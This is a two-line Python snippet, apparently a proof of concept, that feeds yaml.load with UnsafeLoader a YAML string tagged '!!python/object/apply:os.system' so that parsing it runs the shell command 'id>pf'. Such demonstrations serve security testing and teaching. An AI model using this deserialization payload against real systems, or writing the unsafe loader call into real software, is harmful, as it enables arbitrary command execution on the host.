import yaml
yaml.load("!!python/object/apply:os.system ['id>pf']", Loader=yaml.UnsafeLoader)
